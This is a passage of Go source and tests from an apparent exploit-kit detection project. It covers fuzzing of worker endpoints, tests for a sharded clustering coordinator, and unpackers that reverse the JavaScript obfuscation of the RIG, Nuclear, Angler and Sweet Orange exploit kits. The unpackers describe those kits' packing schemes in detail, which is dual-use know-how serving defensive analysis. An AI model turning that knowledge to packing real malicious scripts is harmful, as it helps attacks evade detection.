	f.Fuzz(func(t *testing.T, body []byte) {
		if len(body) > 1<<16 {
			t.Skip("oversized fuzz input")
		}
		fuzzPost(t, client, "/partition", body)
	})
}

// FuzzWorkerEdges fuzzes POST /edges wire-sequence validation, including
// the packed base64 sequence decoding.
func FuzzWorkerEdges(f *testing.F) {
	valid, _ := json.Marshal(&EdgeRequest{Job: pipeline.EdgeJob{
		Eps:  0.5,
		Seqs: pipeline.PackedSeqs(seqsOf("abcd", "abce", "zz")),
		Rows: []int{0, 1, 2},
	}})
	f.Add(valid)
	f.Add([]byte(`{"job":{"eps":0.5,"seqs":["QUJD"],"rows":[0]}}`))       // odd packed length
	f.Add([]byte(`{"job":{"eps":0.5,"seqs":["//8="],"rows":[0]}}`))       // out-of-alphabet symbol
	f.Add([]byte(`{"job":{"eps":0.5,"seqs":[],"rows":[7],"cols":[-1]}}`)) // bad indices
	f.Add([]byte(`{"job":{"eps":-3,"seqs":[],"rows":[]}}`))
	client := fuzzClient(f)
	f.Fuzz(func(t *testing.T, body []byte) {
		if len(body) > 1<<16 {
			t.Skip("oversized fuzz input")
		}
		fuzzPost(t, client, "/edges", body)
	})
}
