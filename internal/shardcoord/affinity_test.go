package shardcoord

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"reflect"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"kizzle/internal/contentcache"
	"kizzle/internal/ekit"
	"kizzle/internal/pipeline"
)

// residentWorkers builds n in-process workers with verdict caches and
// resident sets — the full locality-aware fleet configuration.
func residentWorkers(n int) []*Worker {
	workers := make([]*Worker, n)
	for i := range workers {
		workers[i] = NewWorker(
			WithWorkerParallelism(2),
			WithWorkerCache(contentcache.New(8<<20)),
			WithWorkerResidentBudget(32<<20),
		)
	}
	return workers
}

// TestShardedAffinityMatchesSingleProcess is the locality layer's
// differential test: affinity routing plus the digest-first v3 wire must
// produce clusters and signatures identical to both the affinity-disabled
// coordinator and the single-process pipeline, at every shard count —
// routing and wire format are pure economics, never semantics. It also
// pins the economics: on a resident fleet the edge wave must ship less
// than half the bytes the v2 wire ships for the same workload.
func TestShardedAffinityMatchesSingleProcess(t *testing.T) {
	day := ekit.Date(8, 12)
	inputs := dayInputs(t, day, 110)
	cfg := pipeline.DefaultConfig()
	cfg.PartitionSize = 8 // force many partitions, and therefore many edge rows

	ref, err := pipeline.Process(inputs, seededCorpus(day), cfg)
	if err != nil {
		t.Fatal(err)
	}
	stripTimings(&ref)

	for _, shards := range []int{1, 2, 4, 8} {
		t.Run(fmt.Sprintf("shards=%d", shards), func(t *testing.T) {
			var affinityEdgeWire, plainEdgeWire int64
			for _, mode := range []struct {
				name string
				opts []CoordinatorOption
			}{
				{"affinity", nil},
				{"noAffinity", []CoordinatorOption{WithoutAffinity()}},
			} {
				scfg := cfg
				scfg.Clusterer = NewCoordinator(NewLoopback(residentWorkers(shards)), mode.opts...)
				// Two runs per setup: the second exercises warm resident
				// sets and warm verdict caches on top of a populated
				// coordinator residency map.
				for run := 0; run < 2; run++ {
					got, err := pipeline.Process(inputs, seededCorpus(day), scfg)
					if err != nil {
						t.Fatalf("%s run %d: %v", mode.name, run, err)
					}
					edgeWire := got.Stats.EdgeWireBytes
					if edgeWire <= 0 {
						t.Fatalf("%s run %d: no edge wire traffic measured", mode.name, run)
					}
					if run == 1 {
						if mode.name == "affinity" {
							affinityEdgeWire = edgeWire
						} else {
							plainEdgeWire = edgeWire
						}
					}
					stripTimings(&got)
					if !reflect.DeepEqual(ref.Clusters, got.Clusters) {
						t.Fatalf("%s run %d: clusters diverge from single-process", mode.name, run)
					}
					if !reflect.DeepEqual(ref.Signatures, got.Signatures) {
						t.Fatalf("%s run %d: signatures diverge from single-process", mode.name, run)
					}
				}
			}
			// The acceptance economics: edge rows are partition members, so
			// by the edge wave every sequence is resident where it clustered
			// and v3 ships 20-byte keys instead of packed sequences.
			if affinityEdgeWire*2 > plainEdgeWire {
				t.Fatalf("affinity edge wire %d bytes is not ≤ half of v2's %d bytes",
					affinityEdgeWire, plainEdgeWire)
			}
		})
	}
}

// TestShardedNoiseChunkMatchesSingleProcess pins the chunked-noise
// determinism end to end: with NoiseChunk set, the sharded pipeline at
// every shard count must produce exactly the single-process output for
// the same NoiseChunk — chunk membership is content-addressed, so neither
// scheduling nor fleet size may move a sequence between chunks.
func TestShardedNoiseChunkMatchesSingleProcess(t *testing.T) {
	day := ekit.Date(8, 14)
	inputs := dayInputs(t, day, 140)
	cfg := pipeline.DefaultConfig()
	cfg.PartitionSize = 8
	cfg.NoiseChunk = 10 // far below the pooled benign-noise size, so chunking engages

	ref, err := pipeline.Process(inputs, seededCorpus(day), cfg)
	if err != nil {
		t.Fatal(err)
	}
	stripTimings(&ref)

	for _, shards := range []int{1, 2, 4, 8} {
		scfg := cfg
		scfg.Clusterer = NewCoordinator(NewLoopback(residentWorkers(shards)))
		got, err := pipeline.Process(inputs, seededCorpus(day), scfg)
		if err != nil {
			t.Fatalf("shards=%d: %v", shards, err)
		}
		stripTimings(&got)
		if !reflect.DeepEqual(ref.Clusters, got.Clusters) || !reflect.DeepEqual(ref.Signatures, got.Signatures) {
			t.Fatalf("shards=%d: chunked-noise sharded output diverges from single-process", shards)
		}
	}
}

// dyingV3Transport forwards both wire generations to an inner fleet until
// the first /edges3 request reaches dieShard — from then on that shard
// fails every request, modeling a worker crashing at the start of the
// edge wave with its resident set (and the coordinator's beliefs about
// it) lost.
type dyingV3Transport struct {
	inner    *HTTPTransport
	dieShard int
	dead     atomic.Bool
	mu       sync.Mutex
	failed   int
}

func (d *dyingV3Transport) Shards() int { return d.inner.Shards() }

func (d *dyingV3Transport) fail() error {
	d.mu.Lock()
	d.failed++
	d.mu.Unlock()
	return fmt.Errorf("shard %d died at the edge wave", d.dieShard)
}

func (d *dyingV3Transport) Partition(ctx context.Context, shard int, req *PartitionRequest) (*PartitionResponse, error) {
	if shard == d.dieShard && d.dead.Load() {
		return nil, d.fail()
	}
	return d.inner.Partition(ctx, shard, req)
}

func (d *dyingV3Transport) Edges(ctx context.Context, shard int, req *EdgeRequest) (*EdgeResponse, error) {
	if shard == d.dieShard && d.dead.Load() {
		return nil, d.fail()
	}
	return d.inner.Edges(ctx, shard, req)
}

func (d *dyingV3Transport) EdgesV3(ctx context.Context, shard int, req *EdgeRequestV3) (*EdgeResponseV3, error) {
	if shard == d.dieShard {
		d.dead.Store(true)
		return nil, d.fail()
	}
	return d.inner.EdgesV3(ctx, shard, req)
}

// TestShardedAffinityFailoverMidEdgeSweep kills a resident-fleet shard on
// its first digest-first edge request. The coordinator must drop its
// residency beliefs about the dead shard, fail the job over to a
// survivor (re-shipping whatever that shard lacks), and produce output
// identical to single-process.
func TestShardedAffinityFailoverMidEdgeSweep(t *testing.T) {
	day := ekit.Date(8, 13)
	inputs := dayInputs(t, day, 80)
	cfg := pipeline.DefaultConfig()
	cfg.PartitionSize = 8

	ref, err := pipeline.Process(inputs, seededCorpus(day), cfg)
	if err != nil {
		t.Fatal(err)
	}
	stripTimings(&ref)

	dying := &dyingV3Transport{inner: NewLoopback(residentWorkers(2)), dieShard: 0}
	scfg := cfg
	scfg.Clusterer = NewCoordinator(dying)
	got, err := pipeline.Process(inputs, seededCorpus(day), scfg)
	if err != nil {
		t.Fatalf("stream failed despite a surviving shard: %v", err)
	}
	stripTimings(&got)
	if !reflect.DeepEqual(ref.Clusters, got.Clusters) || !reflect.DeepEqual(ref.Signatures, got.Signatures) {
		t.Fatal("edge-wave worker death changed pipeline output")
	}
	if dying.failed == 0 {
		t.Fatal("dead shard was never exercised after dying")
	}
}

// TestCoordinatorEdgesV3StaleResidencyRefill pins the inline-miss dance:
// a coordinator whose residency map claims sequences live on a shard that
// does not hold them (worker restarted) must get the misses back, refill
// the whole job, and still return the correct pairs — two round trips,
// never a wrong answer, never a livelock.
func TestCoordinatorEdgesV3StaleResidencyRefill(t *testing.T) {
	c := NewCoordinator(NewLoopback(residentWorkers(1)))
	seqs := seqsOf("abcd", "abcd", "zzzzzzzzzzzz")
	keys := make([]pipeline.SeqKey, len(seqs))
	for i, s := range seqs {
		keys[i] = pipeline.SeqKeyOf(s)
	}
	// Lie to the coordinator: claim everything is already resident on
	// shard 0. The worker is fresh, so round 0 ships no fills.
	c.recordResident(0, keys)
	job := &pipeline.EdgeJob{Eps: 0.5, Seqs: seqs, Rows: []int{0, 1, 2}, Keys: keys}
	el, err := c.dispatchEdgeJob(context.Background(), 0, job, "")
	if err != nil {
		t.Fatalf("stale residency was not corrected: %v", err)
	}
	if len(el.Pairs) != 1 || el.Pairs[0] != [2]int{0, 1} {
		t.Fatalf("pairs = %v, want [[0 1]]", el.Pairs)
	}
	// The refill re-recorded reality; a repeat of the same job must now
	// resolve entirely from the resident set (no misses, no error).
	if _, err := c.dispatchEdgeJob(context.Background(), 0, job, ""); err != nil {
		t.Fatalf("warm repeat failed: %v", err)
	}
}

// TestWorkerEdgesV3HTTP exercises the digest-first /edges3 surface: key
// resolution, the Missing answer, fill verification, and the capability
// 404 on a worker running without a resident set.
func TestWorkerEdgesV3HTTP(t *testing.T) {
	w := NewWorker(WithWorkerCache(contentcache.New(1<<20)), WithWorkerResidentBudget(1<<20))
	client := &http.Client{Transport: handlerRoundTripper{
		handlers: map[string]http.Handler{"w.loopback": w.Handler()},
	}}
	post := func(body string) (*http.Response, EdgeResponseV3) {
		t.Helper()
		resp, err := client.Post("http://w.loopback/edges3", "application/json", strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		var out EdgeResponseV3
		if resp.StatusCode == http.StatusOK {
			if err := json.NewDecoder(resp.Body).Decode(&out); err != nil {
				t.Fatal(err)
			}
		}
		resp.Body.Close()
		return resp, out
	}

	seqs := seqsOf("abcd", "abcd", "zzzzzzzzzzzz")
	keys := make([]pipeline.SeqKey, len(seqs))
	for i, s := range seqs {
		keys[i] = pipeline.SeqKeyOf(s)
	}
	marshal := func(req EdgeRequestV3) string {
		b, err := json.Marshal(&req)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}

	// Cold worker, no fills: every key comes back missing, no sweep runs.
	cold := EdgeRequestV3{Eps: 0.5, Keys: keys, Rows: []int{0, 1, 2}}
	resp, out := post(marshal(cold))
	if resp.StatusCode != http.StatusOK || !reflect.DeepEqual(out.Missing, []int{0, 1, 2}) {
		t.Fatalf("cold request: status %d missing %v, want 200 [0 1 2]", resp.StatusCode, out.Missing)
	}

	// Full fill: the sweep runs, and the fills stay resident.
	full := cold
	full.FillAt = []int{0, 1, 2}
	full.Fill = seqs
	resp, out = post(marshal(full))
	if resp.StatusCode != http.StatusOK || len(out.Missing) != 0 {
		t.Fatalf("filled request: status %d missing %v", resp.StatusCode, out.Missing)
	}
	if len(out.Pairs) != 1 || out.Pairs[0] != [2]int{0, 1} {
		t.Fatalf("pairs = %v, want [[0 1]]", out.Pairs)
	}

	// Digest-only repeat: resolved entirely from the resident set.
	resp, out = post(marshal(cold))
	if resp.StatusCode != http.StatusOK || len(out.Missing) != 0 || len(out.Pairs) != 1 {
		t.Fatalf("warm request: status %d missing %v pairs %v", resp.StatusCode, out.Missing, out.Pairs)
	}

	// A fill that does not hash to its declared key is a hard 400 — a
	// silently accepted one would poison every later resolution of the key.
	bad := full
	bad.Fill = seqsOf("abcd", "abcX", "zzzzzzzzzzzz")
	if resp, _ := post(marshal(bad)); resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("mismatched fill: got %d, want 400", resp.StatusCode)
	}
	// Duplicate fill positions and out-of-range positions are rejected.
	dup := full
	dup.FillAt = []int{0, 0, 1}
	if resp, _ := post(marshal(dup)); resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("duplicate fill position: got %d, want 400", resp.StatusCode)
	}
	oob := full
	oob.FillAt = []int{0, 1, 5}
	if resp, _ := post(marshal(oob)); resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("fill position out of range: got %d, want 400", resp.StatusCode)
	}
	// Truncated fill list (fewer fills than positions) is rejected.
	trunc := full
	trunc.Fill = seqs[:2]
	if resp, _ := post(marshal(trunc)); resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("truncated fill: got %d, want 400", resp.StatusCode)
	}
	if resp, _ := post("{not json"); resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("malformed body: got %d, want 400", resp.StatusCode)
	}

	// A worker without a resident set does not serve the endpoint at all —
	// the 404 is the capability answer the coordinator's fallback reads.
	plain := NewWorker(WithWorkerCache(contentcache.New(1 << 20)))
	pclient := &http.Client{Transport: handlerRoundTripper{
		handlers: map[string]http.Handler{"p.loopback": plain.Handler()},
	}}
	presp, err := pclient.Post("http://p.loopback/edges3", "application/json", strings.NewReader(marshal(cold)))
	if err != nil {
		t.Fatal(err)
	}
	presp.Body.Close()
	if presp.StatusCode != http.StatusNotFound {
		t.Fatalf("no resident set: got %d, want 404", presp.StatusCode)
	}
}
