package unpack

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	"kizzle/internal/ekit"
)

// TestRoundTripAllKits is the central property of the substrate: every
// kit's packer must be exactly reversed by its unpacker, for every version
// in its timeline and arbitrary sample indices.
func TestRoundTripAllKits(t *testing.T) {
	days := []int{
		ekit.JuneStart, ekit.Date(6, 20), ekit.Date(7, 15),
		ekit.AugustStart, ekit.Date(8, 13), ekit.Date(8, 20), ekit.Date(8, 28), ekit.AugustEnd,
	}
	for _, fam := range ekit.Families {
		for _, day := range days {
			for idx := 0; idx < 3; idx++ {
				payload := ekit.Payload(fam, day)
				packed := ekit.Pack(fam, payload, day, idx)
				res, err := Unpack(packed)
				if err != nil {
					t.Fatalf("%v day %s idx %d: %v", fam, ekit.Label(day), idx, err)
				}
				if res.Payload != payload {
					t.Fatalf("%v day %s idx %d: roundtrip mismatch (%d vs %d bytes)",
						fam, ekit.Label(day), idx, len(res.Payload), len(payload))
				}
			}
		}
	}
}

func TestUnpackMethodPerKit(t *testing.T) {
	day := ekit.Date(8, 5)
	tests := []struct {
		fam  ekit.Family
		want string
	}{
		{ekit.FamilyRIG, "rig"},
		{ekit.FamilyNuclear, "nuclear"},
		{ekit.FamilyAngler, "angler-hex"},
		{ekit.FamilySweetOrange, "sweetorange"},
	}
	for _, tt := range tests {
		packed := ekit.Pack(tt.fam, ekit.Payload(tt.fam, day), day, 0)
		res, err := Unpack(packed)
		if err != nil {
			t.Fatalf("%v: %v", tt.fam, err)
		}
		if res.Method != tt.want {
			t.Errorf("%v unpacked via %q, want %q", tt.fam, res.Method, tt.want)
		}
	}
}

func TestUnpackFullHTMLSample(t *testing.T) {
	s, err := ekit.NewStream(ekit.DefaultStreamConfig())
	if err != nil {
		t.Fatal(err)
	}
	for _, smp := range s.MaliciousDay(ekit.Date(8, 5)) {
		res, uerr := Unpack(smp.Content)
		if uerr != nil {
			t.Fatalf("%s (%v): %v", smp.ID, smp.Family, uerr)
		}
		if !strings.Contains(res.Payload, "function") {
			t.Errorf("%s: unpacked payload does not look like code", smp.ID)
		}
	}
}

func TestUnpackBenignFails(t *testing.T) {
	for _, doc := range []string{
		``,
		`var x = 1; function f() { return x; }`,
		`<html><body><script>document.title = "hello";</script></body></html>`,
	} {
		if _, err := Unpack(doc); !errors.Is(err, ErrNotPacked) {
			t.Errorf("Unpack(%.40q) err = %v, want ErrNotPacked", doc, err)
		}
	}
}

// The benign charcode loader is *structurally* RIG-shaped, so the RIG
// unpacker legitimately decodes it — to a benign banner, which the labeling
// stage must then not match against any kit corpus. Verify it decodes
// without error and yields the banner.
func TestUnpackBenignCharLoader(t *testing.T) {
	body := ekit.BenignSample(ekit.BenignCharLoader, ekit.Date(8, 5), 0)
	res, err := Unpack(body)
	if err != nil {
		t.Fatalf("charloader: %v", err)
	}
	if !strings.Contains(res.Payload, "deliver();") {
		t.Errorf("charloader payload = %.80q..., want the tracker snippet", res.Payload)
	}
}

func TestUnpackBenignHexLoader(t *testing.T) {
	body := ekit.BenignSample(ekit.BenignHexLoader, ekit.Date(8, 5), 0)
	res, err := Unpack(body)
	if err != nil {
		t.Fatalf("hexloader: %v", err)
	}
	if !strings.Contains(res.Payload, "sprite sheet") {
		t.Errorf("hexloader payload = %q", res.Payload)
	}
}

func TestUnpackOrSelf(t *testing.T) {
	benign := `var x = document.title;`
	if got := UnpackOrSelf(benign); got != benign {
		t.Errorf("UnpackOrSelf(benign) = %q, want identity", got)
	}
	day := ekit.Date(8, 5)
	payload := ekit.Payload(ekit.FamilyNuclear, day)
	packed := ekit.Pack(ekit.FamilyNuclear, payload, day, 0)
	if got := UnpackOrSelf(packed); got != payload {
		t.Error("UnpackOrSelf(packed) must decode")
	}
}

func TestUnpackCorruptedInputs(t *testing.T) {
	day := ekit.Date(8, 5)
	packed := ekit.Pack(ekit.FamilyRIG, ekit.Payload(ekit.FamilyRIG, day), day, 0)
	// Truncation and mutation must not panic; they may or may not decode.
	for _, mutated := range []string{
		packed[:len(packed)/2],
		strings.ReplaceAll(packed, "split", "splot"),
		strings.ReplaceAll(packed, "0", "!"),
	} {
		_, _ = Unpack(mutated) // must not panic
	}
}

func BenchmarkUnpackNuclear(b *testing.B) {
	day := ekit.Date(8, 5)
	packed := ekit.Pack(ekit.FamilyNuclear, ekit.Payload(ekit.FamilyNuclear, day), day, 0)
	b.SetBytes(int64(len(packed)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := Unpack(packed); err != nil {
			b.Fatal(err)
		}
	}
}

// TestUnpackDeterministic pins that Unpack is a pure function of its
// document even when several equal-length candidate blobs are present —
// the regression was a map-order iteration picking a different sprite
// sheet run to run, which leaked nondeterminism into cluster prototypes
// and the content-addressed caches.
func TestUnpackDeterministic(t *testing.T) {
	doc := `<html><head><title>hexloader</title></head><body><script>
	var a = "` + hexOf("/* sprite sheet a: aaaaaaaaaaa */") + `";
	var b = "` + hexOf("/* sprite sheet b: bbbbbbbbbbb */") + `";
	var out = ""; for (var i = 0; i < a.length; i += 2) { out += String.fromCharCode(parseInt(a.substr(i, 2), 16)); }
	</script></body></html>`
	first, err := Unpack(doc)
	if err != nil {
		t.Fatalf("Unpack: %v", err)
	}
	for i := 0; i < 50; i++ {
		got, err := Unpack(doc)
		if err != nil || got.Payload != first.Payload || got.Method != first.Method {
			t.Fatalf("run %d: Unpack diverged: %q/%q vs %q/%q (err=%v)",
				i, got.Method, got.Payload, first.Method, first.Payload, err)
		}
	}
	if first.Payload != "/* sprite sheet a: aaaaaaaaaaa */" {
		t.Fatalf("tie between equal-length blobs must resolve to the first in token order, got %q", first.Payload)
	}
}

// TestUnpackRebindsLastAssignmentWins pins the JS-faithful binding
// semantics of the candidate scan: when a script reassigns a var, only
// the final value is live, so a longer overwritten decoy must not win
// the longest-candidate selection.
func TestUnpackRebindsLastAssignmentWins(t *testing.T) {
	decoy := hexOf("/* decoy: this longer blob is dead after the reassignment */")
	real := hexOf("/* live payload */")
	doc := `<html><body><script>
	var p = "` + decoy + `";
	var p = "` + real + `";
	var out = ""; for (var i = 0; i < p.length; i += 2) { out += String.fromCharCode(parseInt(p.substr(i, 2), 16)); }
	</script></body></html>`
	res, err := Unpack(doc)
	if err != nil {
		t.Fatalf("Unpack: %v", err)
	}
	if res.Payload != "/* live payload */" {
		t.Fatalf("picked a dead binding: %q", res.Payload)
	}
}

func hexOf(s string) string {
	var sb strings.Builder
	for i := 0; i < len(s); i++ {
		fmt.Fprintf(&sb, "%02x", s[i])
	}
	return sb.String()
}
