package unpack

import (
	"errors"
	"strconv"
	"strings"
	"sync"

	"kizzle/internal/jstoken"
)

// lexPool recycles token arenas across Unpack calls: each call lexes the
// sample up to four times (layered packing), and cluster labeling unpacks
// every prototype of every day. No unpacker retains the token slice beyond
// its call — payloads are built from token text, which is immutable — so
// pooled reuse is safe.
var lexPool = sync.Pool{New: func() any { return new(jstoken.Scratch) }}

// ErrNotPacked is returned when no unpacker recognizes the sample.
var ErrNotPacked = errors.New("unpack: no known packer structure recognized")

// Result is a successful unpacking.
type Result struct {
	// Payload is the decoded inner code.
	Payload string
	// Method names the unpacker that succeeded ("rig", "nuclear",
	// "angler-hex", "sweetorange").
	Method string
}

// unpacker is one kit-specific decoder.
type unpacker struct {
	name string
	fn   func(tokens []jstoken.Token) (string, bool)
}

// unpackers are tried in order of structural specificity.
func unpackers() []unpacker {
	return []unpacker{
		{"nuclear", unpackNuclear},
		{"sweetorange", unpackSweetOrange},
		{"rig", unpackRIG},
		{"angler-hex", unpackAnglerHex},
	}
}

// Unpack extracts inline scripts from the document and tries every known
// unpacker. Layered packing is handled by unpacking repeatedly until no
// unpacker applies; the paper notes code is "unpacked, often multiple
// times, to get to the ultimate payload".
func Unpack(doc string) (Result, error) {
	script := jstoken.ExtractScripts(doc)
	sc := lexPool.Get().(*jstoken.Scratch)
	defer lexPool.Put(sc)
	var (
		res   Result
		found bool
	)
	for depth := 0; depth < 4; depth++ {
		tokens := sc.LexInto(script)
		matched := false
		for _, u := range unpackers() {
			if payload, ok := u.fn(tokens); ok {
				res = Result{Payload: payload, Method: u.name}
				script = payload
				matched, found = true, true
				break
			}
		}
		if !matched {
			break
		}
	}
	if !found {
		return Result{}, ErrNotPacked
	}
	return res, nil
}

// UnpackOrSelf returns the decoded payload, or the sample's own script text
// when it is not packed (benign clusters are compared as-is).
func UnpackOrSelf(doc string) string {
	if res, err := Unpack(doc); err == nil {
		return res.Payload
	}
	return jstoken.ExtractScripts(doc)
}

// --- token-stream helpers ---

// tokAt returns the token at i, or a zero Token past the end.
func tokAt(tokens []jstoken.Token, i int) jstoken.Token {
	if i < 0 || i >= len(tokens) {
		return jstoken.Token{}
	}
	return tokens[i]
}

func isPunct(t jstoken.Token, text string) bool {
	return t.Class == jstoken.ClassPunct && t.Text == text
}

func isIdent(t jstoken.Token, name string) bool {
	return t.Class == jstoken.ClassIdentifier && t.Text == name
}

// stringValue returns the unquoted value if t is a string literal.
func stringValue(t jstoken.Token) (string, bool) {
	if t.Class != jstoken.ClassString {
		return "", false
	}
	return t.Value(), true
}

// varStrings collects `var NAME = "VALUE"`-style bindings.
func varStrings(tokens []jstoken.Token) map[string]string {
	out := make(map[string]string)
	for i := 0; i+3 < len(tokens); i++ {
		if tokens[i].Class == jstoken.ClassKeyword && tokens[i].Text == "var" &&
			tokens[i+1].Class == jstoken.ClassIdentifier &&
			isPunct(tokAt(tokens, i+2), "=") {
			if v, ok := stringValue(tokAt(tokens, i+3)); ok {
				out[tokens[i+1].Text] = v
			}
		}
	}
	return out
}

// varStringValues collects the same bindings' values, one per name —
// the last assignment wins, matching what the script's runtime would
// observe — ordered by each name's first occurrence. Unpackers that scan
// for the "best" candidate (longest payload, longest key) must iterate
// this slice, not the map: map order would make ties between
// equal-length candidates nondeterministic, and an unpacked prototype
// must be a pure function of its document (cluster output and the
// content-addressed caches both depend on that).
func varStringValues(tokens []jstoken.Token) []string {
	var out []string
	pos := make(map[string]int)
	for i := 0; i+3 < len(tokens); i++ {
		if tokens[i].Class == jstoken.ClassKeyword && tokens[i].Text == "var" &&
			tokens[i+1].Class == jstoken.ClassIdentifier &&
			isPunct(tokAt(tokens, i+2), "=") {
			if v, ok := stringValue(tokAt(tokens, i+3)); ok {
				name := tokens[i+1].Text
				if at, seen := pos[name]; seen {
					out[at] = v
				} else {
					pos[name] = len(out)
					out = append(out, v)
				}
			}
		}
	}
	return out
}

func decodeHexString(s string) (string, bool) {
	if len(s) == 0 || len(s)%2 != 0 {
		return "", false
	}
	b := make([]byte, 0, len(s)/2)
	for i := 0; i < len(s); i += 2 {
		v, err := strconv.ParseUint(s[i:i+2], 16, 8)
		if err != nil {
			return "", false
		}
		b = append(b, byte(v))
	}
	return string(b), true
}

// --- RIG (Figure 4a): collect()ed char codes joined by a delimiter ---

func unpackRIG(tokens []jstoken.Token) (string, bool) {
	// Locate `function NAME ( PARAM ) { BUF += PARAM ; }`.
	collectName, bufName := "", ""
	for i := 0; i+9 < len(tokens); i++ {
		if tokens[i].Class == jstoken.ClassKeyword && tokens[i].Text == "function" &&
			tokens[i+1].Class == jstoken.ClassIdentifier &&
			isPunct(tokAt(tokens, i+2), "(") &&
			tokAt(tokens, i+3).Class == jstoken.ClassIdentifier &&
			isPunct(tokAt(tokens, i+4), ")") &&
			isPunct(tokAt(tokens, i+5), "{") &&
			tokAt(tokens, i+6).Class == jstoken.ClassIdentifier &&
			isPunct(tokAt(tokens, i+7), "+=") &&
			isIdent(tokAt(tokens, i+8), tokens[i+3].Text) &&
			isPunct(tokAt(tokens, i+9), ";") {
			collectName, bufName = tokens[i+1].Text, tokens[i+6].Text
			break
		}
	}
	if collectName == "" {
		return "", false
	}
	// The delimiter variable: the one .split(DV) is called with.
	vars := varStrings(tokens)
	delim := ""
	for i := 0; i+4 < len(tokens); i++ {
		if isIdent(tokens[i], bufName) && isPunct(tokAt(tokens, i+1), ".") &&
			isIdent(tokAt(tokens, i+2), "split") && isPunct(tokAt(tokens, i+3), "(") {
			if d, ok := vars[tokAt(tokens, i+4).Text]; ok {
				delim = d
			} else if v, ok := stringValue(tokAt(tokens, i+4)); ok {
				delim = v
			}
		}
	}
	if delim == "" {
		return "", false
	}
	// Concatenate all collect("...") arguments.
	var joined strings.Builder
	for i := 0; i+2 < len(tokens); i++ {
		if isIdent(tokens[i], collectName) && isPunct(tokAt(tokens, i+1), "(") {
			if v, ok := stringValue(tokAt(tokens, i+2)); ok {
				joined.WriteString(v)
			}
		}
	}
	if joined.Len() == 0 {
		return "", false
	}
	pieces := strings.Split(joined.String(), delim)
	var out strings.Builder
	for _, p := range pieces {
		if p == "" {
			continue
		}
		code, err := strconv.Atoi(strings.TrimSpace(p))
		if err != nil || code < 0 || code > 0x10ffff {
			return "", false
		}
		out.WriteRune(rune(code))
	}
	if out.Len() == 0 {
		return "", false
	}
	return out.String(), true
}

// --- Nuclear (Figure 4b): XORed 3-digit decimal codes plus a crypt key ---

func unpackNuclear(tokens []jstoken.Token) (string, bool) {
	// Nuclear's marker: the getter indirection `X[Y["..."]("document")]`
	// together with two long var strings (payload digits + key).
	hasGetter := false
	for i := 0; i+2 < len(tokens); i++ {
		if v, ok := stringValue(tokens[i]); ok && v == "document" &&
			isPunct(tokAt(tokens, i-1), "(") {
			hasGetter = true
			break
		}
	}
	if !hasGetter {
		return "", false
	}
	var payload, key string
	for _, v := range varStringValues(tokens) {
		if len(v) >= 30 && len(v)%3 == 0 && allDigits(v) {
			if len(v) > len(payload) {
				payload = v
			}
		} else if len(v) >= 16 {
			if len(v) > len(key) {
				key = v
			}
		}
	}
	if payload == "" || key == "" {
		return "", false
	}
	var out strings.Builder
	out.Grow(len(payload) / 3)
	for i := 0; i+3 <= len(payload); i += 3 {
		code, err := strconv.Atoi(payload[i : i+3])
		if err != nil {
			return "", false
		}
		out.WriteByte(byte(code) ^ key[(i/3)%len(key)])
	}
	return out.String(), true
}

func allDigits(s string) bool {
	for i := 0; i < len(s); i++ {
		if s[i] < '0' || s[i] > '9' {
			return false
		}
	}
	return len(s) > 0
}

// --- Sweet Orange: hex chunks hidden at substr(Math.sqrt(N), L) ---

func unpackSweetOrange(tokens []jstoken.Token) (string, bool) {
	var hexParts []string
	for i := 0; i+12 < len(tokens); i++ {
		// "CARRIER" . substr ( Math . sqrt ( N ) , L )
		carrier, ok := stringValue(tokens[i])
		if !ok {
			continue
		}
		if !isPunct(tokAt(tokens, i+1), ".") || !isIdent(tokAt(tokens, i+2), "substr") ||
			!isPunct(tokAt(tokens, i+3), "(") || !isIdent(tokAt(tokens, i+4), "Math") ||
			!isPunct(tokAt(tokens, i+5), ".") || !isIdent(tokAt(tokens, i+6), "sqrt") ||
			!isPunct(tokAt(tokens, i+7), "(") {
			continue
		}
		if tokAt(tokens, i+8).Class != jstoken.ClassNumber || !isPunct(tokAt(tokens, i+9), ")") ||
			!isPunct(tokAt(tokens, i+10), ",") || tokAt(tokens, i+11).Class != jstoken.ClassNumber ||
			!isPunct(tokAt(tokens, i+12), ")") {
			continue
		}
		square, err1 := strconv.Atoi(tokAt(tokens, i+8).Text)
		length, err2 := strconv.Atoi(tokAt(tokens, i+11).Text)
		if err1 != nil || err2 != nil {
			continue
		}
		off := intSqrt(square)
		if off < 0 || off > len(carrier) {
			continue
		}
		end := off + length
		if end > len(carrier) {
			end = len(carrier)
		}
		hexParts = append(hexParts, carrier[off:end])
	}
	if len(hexParts) == 0 {
		return "", false
	}
	decoded, ok := decodeHexString(strings.Join(hexParts, ""))
	return decoded, ok
}

func intSqrt(n int) int {
	for i := 0; i*i <= n; i++ {
		if i*i == n {
			return i
		}
	}
	return -1
}

// --- Angler: a single long hex string plus a parseInt(...,16) loop ---

func unpackAnglerHex(tokens []jstoken.Token) (string, bool) {
	// Require the hex-decode loop shape: parseInt ( X . substr ( I , 2 ) , 16 )
	hasLoop := false
	for i := 0; i+2 < len(tokens); i++ {
		if isIdent(tokens[i], "parseInt") {
			// Look ahead a bounded window for ", 16 )".
			for j := i; j < i+14 && j+2 < len(tokens); j++ {
				if isPunct(tokens[j], ",") && tokAt(tokens, j+1).Text == "16" && isPunct(tokAt(tokens, j+2), ")") {
					hasLoop = true
					break
				}
			}
		}
		if hasLoop {
			break
		}
	}
	if !hasLoop {
		return "", false
	}
	best := ""
	for _, v := range varStringValues(tokens) {
		if len(v) > len(best) && len(v) >= 20 && isHex(v) {
			best = v
		}
	}
	if best == "" {
		return "", false
	}
	return decodeHexString(best)
}

func isHex(s string) bool {
	for i := 0; i < len(s); i++ {
		c := s[i]
		if !(c >= '0' && c <= '9' || c >= 'a' && c <= 'f' || c >= 'A' && c <= 'F') {
			return false
		}
	}
	return len(s) > 0
}
