// Package unpack reverses the packers of the four studied exploit kits.
// The paper unpacks cluster prototypes before labeling them; instead of
